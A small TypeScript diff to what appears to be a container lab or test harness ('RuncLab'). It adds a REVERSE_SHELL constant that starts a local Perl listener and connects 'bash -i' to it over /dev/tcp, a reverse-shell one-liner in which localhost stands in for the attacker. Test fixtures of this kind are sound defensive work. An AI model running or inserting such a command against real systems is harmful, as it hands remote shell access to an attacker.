@@ -112,3 +112,6 @@ export class RuncLab {
 export function containerName(what: string): string {
   return `pal-${what}-${process.pid}-${Math.floor(Math.random() * 1e6)}`;
 }
+
+/** A listener in the container stands in for the attacker's machine; `bash -i` connects out to it with its stdin on the socket. */
+export const REVERSE_SHELL = 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die; my $c = $s->accept; sleep 60;\' & sleep 0.5; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; true"';
